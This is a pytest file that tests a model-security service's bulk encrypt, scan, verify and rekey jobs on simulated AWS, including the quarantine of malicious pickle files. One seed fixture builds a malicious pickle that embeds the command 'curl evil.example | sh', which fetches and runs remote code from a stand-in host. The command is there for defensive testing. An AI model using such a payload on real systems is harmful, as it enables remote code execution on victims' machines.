"""Bulk jobs end to end under in-process moto: the template's state machine on moto's Step Functions
interpreter, the real JobWorker handler answering its task tokens, the jobs table as the source of truth."""

from __future__ import annotations

import hashlib
import json
import os
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aws_encryption_sdk
import pytest
from aws_encryption_sdk import CommitmentPolicy, StrictAwsKmsMasterKeyProvider
from modelshield.crypto.s3 import ENVELOPE_MAGIC
from modelshield.jobs.models import Filters, Job, JobStatus, Operation, Options
from modelshield.local.samples import benign_checkpoint, malicious_pickle
from modelshield.local.stack import LocalContext, load_handler, sqs_record

from tests.builders import EVENTS, provisioned_template

ENGINEER = "arn:aws:sts::123456789012:assumed-role/ModelShieldSecurityEngineer/alice"
REPO = "model-repo"


@dataclass
class JobsEnv:
    s3: Any
    sqs: Any
    kms: Any
    sfn: Any
    env: dict[str, str]
    queue_url: str
    queue_arn: str
    handler: Any
    stop: threading.Event = field(default_factory=threading.Event)
    threads: list[threading.Thread] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def service(self) -> Any:
        from modelshield import wiring

        return wiring.job_service()

    def start_workers(self, count: int = 2) -> None:
        for n in range(count):
            thread = threading.Thread(target=self._poll, name=f"job-worker-{n}", daemon=True)
            thread.start()
            self.threads.append(thread)

    def _poll(self) -> None:
        while not self.stop.is_set():
            messages = self.sqs.receive_message(
                QueueUrl=self.queue_url, MaxNumberOfMessages=1, WaitTimeSeconds=0
            ).get("Messages", [])
            if not messages:
                time.sleep(0.05)  # no long poll: it would hold the moto lock below for a whole second
            for message in messages:
                try:
                    self.handler(
                        {"Records": [sqs_record(message, self.queue_arn)]},
                        LocalContext("JobWorkerFunction", 3008, 900),
                    )
                except Exception as exc:
                    self.errors.append(repr(exc))
                self.sqs.delete_message(QueueUrl=self.queue_url, ReceiptHandle=message["ReceiptHandle"])

    def run(self, operation: str, prefix: str, timeout: float = 120, **options: Any) -> Job:
        job = self.service().create(
            principal=ENGINEER,
            operation=operation,
            source=f"s3://{REPO}/{prefix}",
            options=Options(**options),
        )
        return self.wait(job.job_id, timeout)

    def wait(self, job_id: str, timeout: float = 120) -> Job:
        deadline = time.monotonic() + timeout
        service = self.service()
        while time.monotonic() < deadline:
            job = service.get(job_id)
            if job.status.finished:
                return job
            time.sleep(0.1)
        raise AssertionError(f"job {job_id} did not finish: {service.get(job_id)} {self.errors}")

    def put(self, key: str, body: bytes) -> str:
        return str(self.s3.put_object(Bucket=REPO, Key=key, Body=body)["VersionId"])

    def versions(self, key: str) -> list[dict[str, Any]]:
        listed = self.s3.list_object_versions(Bucket=REPO, Prefix=key).get("Versions", [])
        return [v for v in listed if v["Key"] == key]

    def body(self, key: str) -> bytes:
        return bytes(self.s3.get_object(Bucket=REPO, Key=key)["Body"].read())


def serialise_moto(monkeypatch: pytest.MonkeyPatch) -> None:
    """One in-process moto request at a time. The worker threads, moto's Step Functions interpreter and
    the test's own polling all call the same in-memory backends, which are not thread-safe (a Query that
    serialises a job row while a worker updates it fails with "dictionary changed size during
    iteration"). DynamoDB and S3 serialise writes per item in AWS; this lock gives moto the same order."""
    from moto.core.botocore_stubber import BotocoreStubber

    lock = threading.RLock()
    unlocked = BotocoreStubber.process_request

    def process_request(self: Any, request: Any) -> Any:
        with lock:
            return unlocked(self, request)

    monkeypatch.setattr(BotocoreStubber, "process_request", process_request)


@pytest.fixture
def jobs_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[JobsEnv]:
    from modelshield import config

    serialise_moto(monkeypatch)

    with provisioned_template(
        monkeypatch, tmp_path, moto_config={"stepfunctions": {"execute_state_machine": True}}
    ) as (clients, out):
        for spec in ("ApiFunction", "JobWorkerFunction"):
            for name, value in out.functions[spec].environment.items():
                monkeypatch.setenv(name, value)
        monkeypatch.setenv("REPOSITORY_BUCKETS", "*")
        config.scan_settings.cache_clear()
        clients["s3"].create_bucket(Bucket=REPO)
        clients["s3"].put_bucket_versioning(Bucket=REPO, VersioningConfiguration={"Status": "Enabled"})
        env = JobsEnv(
            s3=clients["s3"],
            sqs=clients["sqs"],
            kms=clients["kms"],
            sfn=clients["stepfunctions"],
            env=dict(os.environ),
            queue_url=out.names["JobsQueue"],
            queue_arn=out.arns["JobsQueue"],
            handler=load_handler(out.functions["JobWorkerFunction"]),
        )
        env.start_workers()
        yield env
        env.stop.set()
        for thread in env.threads:
            thread.join(timeout=5)
        config.scan_settings.cache_clear()


def seed_repository(env: JobsEnv) -> dict[str, bytes]:
    bodies = {
        "team-a/models/classifier.pt": benign_checkpoint("classifier"),
        "team-a/models/v2/ranker.pt": benign_checkpoint("ranker"),
        "team-b/checkpoints/deep/nested/encoder.pt": benign_checkpoint("encoder"),
        "team-b/innocent.pkl": malicious_pickle(),
        "team-b/tools/loader.bin": malicious_pickle("curl evil.example | sh"),
        "team-a/empty.pt": b"",
        "team-a/README.md": b"# models of team a\n",
    }
    for key, body in bodies.items():
        env.put(key, body)
    return bodies


def official_decrypt(env: JobsEnv, ciphertext: bytes, key_arn: str) -> tuple[bytes, dict[str, str]]:
    client = aws_encryption_sdk.EncryptionSDKClient(
        commitment_policy=CommitmentPolicy.REQUIRE_ENCRYPT_REQUIRE_DECRYPT
    )
    plaintext, header = client.decrypt(
        source=ciphertext, key_provider=StrictAwsKmsMasterKeyProvider(key_ids=[key_arn])
    )
    return plaintext, dict(header.encryption_context)


BENIGN = (
    "team-a/models/classifier.pt",
    "team-a/models/v2/ranker.pt",
    "team-b/checkpoints/deep/nested/encoder.pt",
)
MALICIOUS = ("team-b/innocent.pkl", "team-b/tools/loader.bin")


def test_an_encrypt_job_encrypts_in_place_quarantines_malicious_models_and_counts_exactly(
    jobs_env: JobsEnv,
) -> None:
    # Given a repository with three models, two malicious pickles, a zero-byte file and a README
    bodies = seed_repository(jobs_env)

    # When an encrypt job runs over it
    job = jobs_env.run("encrypt", "", max_concurrency=4)

    # Then the counts are exact: 3 encrypted, 2 quarantined (failed), 2 not models (skipped)
    assert job.status is JobStatus.COMPLETED_WITH_FAILURES, jobs_env.service().errors(job.job_id)
    assert job.public()["counts"] == {"total": 7, "succeeded": 3, "failed": 2, "skipped": 2, "pending": 0}
    assert job.outcomes == {"ENCRYPTED": 3, "QUARANTINED": 2, "NOT_A_MODEL": 2}
    assert job.public()["bytes"]["total"] == sum(len(b) for b in bodies.values())
    # And every allowed model's only version is an ESDK v2 message that the official SDK decrypts
    for key in BENIGN:
        versions = jobs_env.versions(key)
        assert len(versions) == 1, f"{key} still has {len(versions)} versions"
        head = jobs_env.s3.head_object(Bucket=REPO, Key=key)
        meta = head["Metadata"]
        assert meta["modelshield-state"] == "ENCRYPTED" and meta["modelshield-job-id"] == job.job_id
        assert meta["modelshield-sha256"] == hashlib.sha256(bodies[key]).hexdigest()
        assert meta["modelshield-wrapping-key"].startswith("arn:aws:kms:") and meta["modelshield-scan-id"]
        ciphertext = jobs_env.body(key)
        assert ciphertext[:3] == ENVELOPE_MAGIC
        plaintext, context = official_decrypt(jobs_env, ciphertext, meta["modelshield-wrapping-key"])
        assert plaintext == bodies[key] and context["modelshield:artifact"] == f"{REPO}/{key}"
    # And no malicious model is readable in plaintext anywhere: removed from the repository, quarantined
    for key in MALICIOUS:
        assert jobs_env.versions(key) == []
        quarantined = jobs_env.s3.get_object(
            Bucket=jobs_env.env["VAULT_BUCKET"], Key=f"quarantine/repositories/{REPO}/{key}"
        )
        assert quarantined["Body"].read()[:3] == ENVELOPE_MAGIC
    # And the non-models are untouched
    assert jobs_env.body("team-a/README.md") == bodies["team-a/README.md"]
    # And `errors` names each quarantined item with the reason
    errors = jobs_env.service().errors(job.job_id)["errors"]
    assert [(e["key"], e["code"]) for e in errors] == [(k, "BLOCKED") for k in sorted(MALICIOUS)]
    assert all("MS-CODE-EXEC" in e["message"] and e["action"] for e in errors)
    # And the report is in the reports bucket as JSON and CSV
    reports = jobs_env.env["REPORTS_BUCKET"]
    stored = json.loads(
        jobs_env.s3.get_object(Bucket=reports, Key=f"modelshield-jobs/{job.job_id}/errors.json")[
            "Body"
        ].read()
    )
    assert stored["errors"] == errors
    csv_text = (
        jobs_env.s3.get_object(Bucket=reports, Key=f"modelshield-jobs/{job.job_id}/errors.csv")["Body"]
        .read()
        .decode()
    )
    assert (
        csv_text.splitlines()[0] == "bucket,key,version_id,code,message,action"
        and len(csv_text.splitlines()) == 3
    )
    assert job.report_uri == f"s3://{reports}/modelshield-jobs/{job.job_id}/"
    assert jobs_env.errors == []

    # When the same job runs again
    before = {k: [v["VersionId"] for v in jobs_env.versions(k)] for k in bodies}
    again = jobs_env.run("encrypt", "")
    # Then nothing changes: every model is already encrypted, every version id is the same
    assert again.status is JobStatus.SUCCEEDED
    assert again.outcomes == {"ALREADY_ENCRYPTED": 3, "NOT_A_MODEL": 2}
    assert {k: [v["VersionId"] for v in jobs_env.versions(k)] for k in bodies} == before


def test_a_verify_job_passes_then_reports_exactly_the_object_with_one_flipped_byte(jobs_env: JobsEnv) -> None:
    # Given an encrypted repository
    seed_repository(jobs_env)
    jobs_env.run("encrypt", "")
    # When a verify job runs, Then every encrypted model verifies
    job = jobs_env.run("verify", "")
    assert job.status is JobStatus.SUCCEEDED and job.outcomes == {"VERIFIED": 3, "NOT_A_MODEL": 2}

    # Given one byte of one ciphertext flipped (metadata kept, as a silent corruption would)
    key = "team-a/models/v2/ranker.pt"
    head = jobs_env.s3.head_object(Bucket=REPO, Key=key)
    data = bytearray(jobs_env.body(key))
    data[len(data) // 2] ^= 0x01
    jobs_env.s3.put_object(Bucket=REPO, Key=key, Body=bytes(data), Metadata=head["Metadata"])
    # When verify runs again, Then exactly that object fails, with the reason
    job = jobs_env.run("verify", "", tolerated_failure_percent=50)
    assert job.status is JobStatus.COMPLETED_WITH_FAILURES
    assert job.public()["counts"]["failed"] == 1 and job.outcomes["VERIFIED"] == 2
    (error,) = jobs_env.service().errors(job.job_id)["errors"]
    assert error["key"] == key and error["code"] == "INTEGRITY" and error["message"]


def test_a_scan_job_records_verdicts_and_changes_nothing(jobs_env: JobsEnv) -> None:
    bodies = seed_repository(jobs_env)
    before = {k: [v["VersionId"] for v in jobs_env.versions(k)] for k in bodies}
    job = jobs_env.run("scan", "team-b/")
    assert job.outcomes == {"SCANNED": 3}
    assert job.public()["counts"] == {"total": 3, "succeeded": 1, "failed": 2, "skipped": 0, "pending": 0}
    assert {k: [v["VersionId"] for v in jobs_env.versions(k)] for k in bodies} == before
    from modelshield import wiring
    from modelshield.store.scans import ScanStore

    latest = ScanStore(jobs_env.env["SCANS_TABLE"], wiring.dynamodb()).latest(f"{REPO}/team-b/innocent.pkl")
    assert latest is not None and latest.trigger == "job" and latest.verdict.value == "BLOCKED"


def test_a_dry_run_says_what_would_change_and_changes_nothing(jobs_env: JobsEnv) -> None:
    bodies = seed_repository(jobs_env)
    job = jobs_env.run("encrypt", "", dry_run=True)
    assert job.outcomes == {"ENCRYPTED": 3, "QUARANTINED": 2, "NOT_A_MODEL": 2}
    for key, body in bodies.items():
        assert jobs_env.body(key) == body and len(jobs_env.versions(key)) == 1


def test_filters_pick_by_glob_and_size(jobs_env: JobsEnv) -> None:
    seed_repository(jobs_env)
    service = jobs_env.service()
    job = service.create(
        principal=ENGINEER,
        operation=Operation.SCAN,
        source=f"s3://{REPO}/team-a/",
        filters=Filters(include=["*.pt"], exclude=["*/v2/*"], min_size=1),
    )
    job = jobs_env.wait(job.job_id)
    assert job.counts.total == 1 and job.outcomes == {"SCANNED": 1}


# -- the API -------------------------------------------------------------------------------------------
CONSUMER = "arn:aws:sts::123456789012:assumed-role/InferenceService/i-0abc"


@pytest.fixture
def api(jobs_env: JobsEnv) -> Any:
    import copy

    handler = load_handler_for("ApiFunction")

    def call(
        method: str, path: str, *, user: str = ENGINEER, query: dict | None = None, body: Any = None
    ) -> tuple:
        event = copy.deepcopy(json.loads((EVENTS / "api_access_list.json").read_text()))
        event.update(
            resource=path,
            path=path,
            httpMethod=method,
            queryStringParameters=query,
            multiValueQueryStringParameters={k: [v] for k, v in (query or {}).items()} or None,
            body=None if body is None else json.dumps(body),
        )
        event["requestContext"].update(resourcePath=path, httpMethod=method)
        event["requestContext"]["identity"]["userArn"] = user
        response = handler(event, LocalContext("ApiFunction", 512, 29))
        text = response["body"] or "null"
        try:
            return response["statusCode"], json.loads(text)
        except json.JSONDecodeError:
            return response["statusCode"], text

    return call


def load_handler_for(logical_id: str) -> Any:
    from modelshield.local.template import FunctionSpec

    return load_handler(
        FunctionSpec(
            logical_id,
            f"functions/{'api' if logical_id == 'ApiFunction' else 'job_worker'}",
            "app.lambda_handler",
            29,
            512,
            {},
        )
    )


def test_the_jobs_api_starts_reads_reports_and_refuses_what_it_must(jobs_env: JobsEnv, api: Any) -> None:
    seed_repository(jobs_env)
    # Given a consumer, When it starts an encrypt job, Then it is refused (a scan job is fine)
    status, body = api(
        "POST", "/jobs", user=CONSUMER, body={"operation": "encrypt", "source": f"s3://{REPO}/"}
    )
    assert status == 403 and "Security Engineer" in body["message"]
    # When a Security Engineer starts one, Then it runs to the end and its status is the contract JSON
    status, body = api("POST", "/jobs", body={"operation": "encrypt", "source": f"s3://{REPO}/team-b/"})
    assert status == 200 and body["status"] in ("PENDING", "RUNNING")
    job_id = body["job_id"]
    jobs_env.wait(job_id)
    status, body = api("GET", f"/jobs/{job_id}")
    assert status == 200 and set(body) == {
        "job_id",
        "operation",
        "source",
        "status",
        "counts",
        "bytes",
        "started_at",
        "finished_at",
        "report_uri",
    }
    assert body["counts"] == {"total": 3, "succeeded": 1, "failed": 2, "skipped": 0, "pending": 0}
    assert body["source"] == f"s3://{REPO}/team-b/" and body["finished_at"] and body["started_at"]
    # And the errors come as JSON and as CSV
    status, errors = api("GET", f"/jobs/{job_id}/errors")
    assert status == 200 and {e["key"] for e in errors["errors"]} == set(MALICIOUS)
    status, text = api("GET", f"/jobs/{job_id}/errors", query={"format": "csv"})
    assert (
        status == 200
        and text.startswith("bucket,key,version_id,code,message,action")
        and text.count("\n") == 3
    )
    # And it is listed; a finished job cannot be cancelled; with nothing failed there is nothing to retry
    status, listed = api("GET", "/jobs")
    assert status == 200 and [j["job_id"] for j in listed["jobs"]] == [job_id]
    assert api("POST", f"/jobs/{job_id}/cancel")[0] == 409
    assert api("POST", f"/jobs/{job_id}/retry")[0] == 400
    assert api("GET", "/jobs/job-nope")[0] == 404
    # And the start is in the audit chain
    from modelshield import wiring

    starts = [r for r in wiring.audit_log().list() if r.action == "job.start"]
    assert len(starts) == 1 and starts[0].principal == ENGINEER and starts[0].detail["job_id"] == job_id


def test_a_bucket_outside_the_repositories_is_refused(
    jobs_env: JobsEnv, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REPOSITORY_BUCKETS", "approved-*")
    with pytest.raises(Exception, match="not one of this stack's repositories"):
        jobs_env.service().create(principal=ENGINEER, operation="scan", source=f"s3://{REPO}/")


# -- faults ------------------------------------------------------------------------------------------
def worker_runtime() -> Any:
    from modelshield import wiring

    return wiring.job_runtime()


def new_job(env: JobsEnv, operation: str = "encrypt") -> Job:
    """A job record without an execution, for driving the worker's per-item code directly."""
    from modelshield.jobs.models import Source
    from modelshield.jobs.store import JobStore
    from modelshield.models import utcnow

    job = Job(
        job_id=f"job-direct-{operation}",
        operation=Operation(operation),
        source=Source.parse(f"s3://{REPO}/"),
        requester=ENGINEER,
        created_at=utcnow(),
    )
    from modelshield import wiring

    return JobStore(env.env["JOBS_TABLE"], wiring.dynamodb()).create(job)


def test_an_object_deleted_after_discovery_is_gone_not_a_failure(jobs_env: JobsEnv) -> None:
    from modelshield.jobs.models import ManifestEntry
    from modelshield.jobs.worker import process_entry

    jr = worker_runtime()
    job = new_job(jobs_env)
    jobs_env.put("gone.pt", benign_checkpoint())
    jobs_env.s3.delete_object(Bucket=REPO, Key="gone.pt")
    item = process_entry(jr, job, ManifestEntry(bucket=REPO, key="gone.pt", size=10), 1)
    assert item.outcome.value == "GONE" and item.tally.value == "skipped"


@pytest.mark.parametrize("crash_at", ["before-record", "before-plaintext-removal"])
def test_a_worker_killed_mid_item_leaves_plaintext_or_verified_ciphertext_and_the_rerun_finishes(
    jobs_env: JobsEnv, monkeypatch: pytest.MonkeyPatch, crash_at: str
) -> None:
    from modelshield.jobs import inplace
    from modelshield.jobs.models import ManifestEntry
    from modelshield.jobs.worker import process_entry

    class Killed(BaseException):
        """What a Lambda timeout looks like to the code: it just stops."""

    body = benign_checkpoint("victim")
    plaintext_version = jobs_env.put("victim.pt", body)
    jr = worker_runtime()
    job = new_job(jobs_env)
    entry = ManifestEntry(bucket=REPO, key="victim.pt", size=len(body), sniffed=True)
    # Given a worker that dies at `crash_at`
    with pytest.MonkeyPatch.context() as crash, pytest.raises(Killed):
        if crash_at == "before-record":
            crash.setattr(jr.pipeline.scans, "append", lambda record: (_ for _ in ()).throw(Killed()))
        else:
            crash.setattr(
                inplace, "remove_plaintext_versions", lambda *a, **k: (_ for _ in ()).throw(Killed())
            )
        process_entry(jr, job, entry, 1)
    # Then the plaintext is intact and whatever ciphertext exists verified
    versions = {v["VersionId"]: v for v in jobs_env.versions("victim.pt")}
    assert plaintext_version in versions
    original = jobs_env.s3.get_object(Bucket=REPO, Key="victim.pt", VersionId=plaintext_version)[
        "Body"
    ].read()
    assert original == body
    # When the item runs again (the message is redelivered)
    jr = worker_runtime()
    item = process_entry(jr, job, entry, 1)
    # Then it ends encrypted, with exactly one (ciphertext) version left, recorded for decryption access
    assert item.outcome.value == "ENCRYPTED", item
    (only,) = jobs_env.versions("victim.pt")
    assert jobs_env.body("victim.pt")[:3] == ENVELOPE_MAGIC
    state = jr.pipeline.artifacts.get(f"{REPO}/victim.pt", plaintext_version)
    assert (
        state is not None
        and state.vault_version_id == only["VersionId"]
        and state.encryption_state.value == "ENCRYPTED"
    )


def test_cancel_stops_new_items_and_the_job_ends_cancelled(jobs_env: JobsEnv) -> None:
    seed_repository(jobs_env)
    jobs_env.stop.set()  # workers paused: nothing runs until we cancel
    for thread in jobs_env.threads:
        thread.join(timeout=5)
    service = jobs_env.service()
    job = service.create(principal=ENGINEER, operation="encrypt", source=f"s3://{REPO}/")
    service.cancel(job.job_id, principal=ENGINEER)
    jobs_env.stop.clear()
    jobs_env.threads.clear()
    jobs_env.start_workers()
    job = jobs_env.wait(job.job_id)
    assert job.status is JobStatus.CANCELLED
    assert job.counts.pending == 5 and job.counts.succeeded == 0
    for key in BENIGN:
        assert jobs_env.body(key)[:3] != ENVELOPE_MAGIC  # nothing was encrypted after the cancel


def test_retry_runs_only_the_failed_items(jobs_env: JobsEnv) -> None:
    # Given an unversioned repository bucket: encrypting in place there would overwrite the only copy
    jobs_env.s3.create_bucket(Bucket="flat-repo")
    jobs_env.s3.put_object(Bucket="flat-repo", Key="m.pt", Body=benign_checkpoint())
    service = jobs_env.service()
    job = jobs_env.wait(
        service.create(principal=ENGINEER, operation="encrypt", source="s3://flat-repo/").job_id
    )
    # Then the item fails, saying what to do, and the plaintext is kept
    assert job.status is JobStatus.FAILED
    (error,) = service.errors(job.job_id)["errors"]
    assert (
        "versioning" in error["action"]
        and jobs_env.s3.get_object(Bucket="flat-repo", Key="m.pt")["Body"].read()[:3] != ENVELOPE_MAGIC
    )
    # When versioning is enabled and the job retried, Then the failed item is done and the job succeeds
    jobs_env.s3.put_bucket_versioning(Bucket="flat-repo", VersioningConfiguration={"Status": "Enabled"})
    retried = jobs_env.wait(service.retry(job.job_id, principal=ENGINEER).job_id)
    assert retried.status is JobStatus.SUCCEEDED and retried.outcomes == {"ENCRYPTED": 1}
    assert len(retried.executions) == 2


def test_a_rekey_job_rewraps_under_the_current_key_then_rekeys_old_data_keys(jobs_env: JobsEnv) -> None:
    from modelshield import wiring

    # Given an encrypted repository, and the stack's key alias moved to a new KMS key
    bodies = seed_repository(jobs_env)
    jobs_env.run("encrypt", "")
    old_key = jobs_env.s3.head_object(Bucket=REPO, Key=BENIGN[0])["Metadata"]["modelshield-wrapping-key"]
    new_key = jobs_env.kms.create_key(Description="the next vault key")["KeyMetadata"]["Arn"]
    jobs_env.kms.update_alias(AliasName=jobs_env.env["KMS_KEY_ID"], TargetKeyId=new_key)
    assert new_key != old_key

    # When a rekey job runs over the repository
    job = jobs_env.run("rekey", "")

    # Then every encrypted model is re-wrapped under the new key, its metadata naming that key
    assert job.status is JobStatus.SUCCEEDED, jobs_env.service().errors(job.job_id)
    assert job.outcomes == {"REKEYED": 3, "NOT_A_MODEL": 2}
    artifacts = wiring.job_runtime().pipeline.artifacts

    def check(key_arn: str) -> dict[str, str]:
        data_keys = {}
        for key in BENIGN:
            (only,) = jobs_env.versions(key)  # the old ciphertext version is gone; nothing else remains
            meta = jobs_env.s3.head_object(Bucket=REPO, Key=key)["Metadata"]
            assert meta["modelshield-wrapping-key"] == key_arn, key
            ciphertext = jobs_env.body(key)
            plaintext, context = official_decrypt(jobs_env, ciphertext, key_arn)
            assert plaintext == bodies[key]
            state = artifacts.get(f"{REPO}/{key}", context["modelshield:version"])
            assert state is not None and state.vault_version_id == only["VersionId"]
            assert state.wrapping_key_arn == key_arn
            data_keys[key] = ciphertext[:400].hex()  # the header: wrapped data key and its tag
        return data_keys

    rewrapped = check(new_key)

    # When a rekey job runs for data keys older than 0 days
    job = jobs_env.run("rekey", "", rekey_older_than_days=0)
    # Then every model has a fresh data key under the same key, still decrypting to its plaintext
    assert job.outcomes == {"REKEYED": 3, "NOT_A_MODEL": 2}
    rekeyed = check(new_key)
    assert all(rekeyed[key] != rewrapped[key] for key in BENIGN)
    # And a verify job passes, and a rekey job run again changes nothing
    assert jobs_env.run("verify", "").outcomes == {"VERIFIED": 3, "NOT_A_MODEL": 2}
    before = {k: [v["VersionId"] for v in jobs_env.versions(k)] for k in BENIGN}
    assert jobs_env.run("rekey", "").outcomes == {"ALREADY_ENCRYPTED": 3, "NOT_A_MODEL": 2}
    assert {k: [v["VersionId"] for v in jobs_env.versions(k)] for k in BENIGN} == before
    assert jobs_env.errors == []


def test_a_job_reads_an_s3_inventory_manifest_and_takes_only_current_versions(jobs_env: JobsEnv) -> None:
    import csv
    import gzip
    import io

    # Given a repository and its S3 Inventory report (CSV, gzipped) in another bucket: the rows list the
    # current versions, a noncurrent version, a delete marker and a key with a space (URL-encoded)
    bodies = {
        "team-a/models/classifier.pt": benign_checkpoint("classifier"),
        "team-a/my model.pt": benign_checkpoint("spaced"),
        "team-b/innocent.pkl": malicious_pickle(),
        "team-a/README.md": b"# models\n",
    }
    versions = {key: jobs_env.put(key, body) for key, body in bodies.items()}
    old = jobs_env.put("team-a/old.pt", benign_checkpoint("old"))
    jobs_env.s3.delete_object(Bucket=REPO, Key="team-a/old.pt")  # a delete marker is now current
    rows = [
        [REPO, key.replace(" ", "+"), versions[key], "true", "false", str(len(body))]
        for key, body in bodies.items()
    ]
    rows.append([REPO, "team-a/old.pt", old, "false", "false", "100"])
    rows.append([REPO, "team-a/old.pt", "marker", "true", "true", "0"])
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(rows)
    inventory = "inventory-reports"
    jobs_env.s3.create_bucket(Bucket=inventory)
    prefix = f"{REPO}/all-objects/2026-12-01T01-00Z"
    part = f"{REPO}/all-objects/data/part-0.csv.gz"
    jobs_env.s3.put_object(Bucket=inventory, Key=part, Body=gzip.compress(text.getvalue().encode()))
    manifest = {
        "sourceBucket": REPO,
        "destinationBucket": f"arn:aws:s3:::{inventory}",
        "fileFormat": "CSV",
        "fileSchema": "Bucket, Key, VersionId, IsLatest, IsDeleteMarker, Size",
        "files": [{"key": part, "size": 1, "MD5checksum": "x"}],
    }
    manifest_key = f"{prefix}/manifest.json"
    jobs_env.s3.put_object(Bucket=inventory, Key=manifest_key, Body=json.dumps(manifest).encode())

    # When a scan job runs over the manifest
    service = jobs_env.service()
    created = service.create(principal=ENGINEER, operation="scan", source=f"s3://{inventory}/{manifest_key}")
    job = jobs_env.wait(created.job_id)

    # Then exactly the current objects are in the job, each scanned at the version the inventory names
    assert job.public()["counts"] == {"total": 4, "succeeded": 2, "failed": 1, "skipped": 1, "pending": 0}
    assert job.outcomes == {"SCANNED": 3, "NOT_A_MODEL": 1}
    (error,) = service.errors(job.job_id)["errors"]
    assert error["key"] == "team-b/innocent.pkl" and error["version_id"] == versions["team-b/innocent.pkl"]
    from modelshield import wiring
    from modelshield.store.scans import ScanStore

    latest = ScanStore(jobs_env.env["SCANS_TABLE"], wiring.dynamodb()).latest(f"{REPO}/team-a/my model.pt")
    assert latest is not None and latest.verdict.value == "ALLOWED"
    assert latest.version_id == versions["team-a/my model.pt"]


@pytest.fixture
def faults() -> Iterator[Any]:
    """botocore fault hooks for every session created from now on: request this before `jobs_env`, so
    the worker's clients (built when its handler loads) pass their calls through it."""
    from tests.faults.harness import installed

    with installed() as registry:
        yield registry


def test_kms_throttling_is_retried_by_the_engine_and_the_item_succeeds(
    faults: Any, jobs_env: JobsEnv
) -> None:
    # Given KMS that throttles the first two GenerateDataKey calls (after botocore's own retries)
    throttle = faults.fail("kms", "GenerateDataKey", code="ThrottlingException", status=400, times=2)
    jobs_env.put("hot/model.pt", benign_checkpoint("throttled"))
    # When an encrypt job runs
    job = jobs_env.run("encrypt", "hot/")
    # Then the state machine retried the batch until KMS answered, and the item is encrypted, not failed
    assert throttle.hits == 2
    assert job.status is JobStatus.SUCCEEDED, jobs_env.service().errors(job.job_id)
    assert job.outcomes == {"ENCRYPTED": 1}
    assert len(jobs_env.versions("hot/model.pt")) == 1
    assert jobs_env.body("hot/model.pt")[:3] == ENVELOPE_MAGIC
    # And no scan record says ERROR for it: a throttle is not a verdict
    from modelshield import wiring
    from modelshield.store.scans import ScanStore

    latest = ScanStore(jobs_env.env["SCANS_TABLE"], wiring.dynamodb()).latest(f"{REPO}/hot/model.pt")
    assert latest is not None and latest.verdict.value == "ALLOWED"
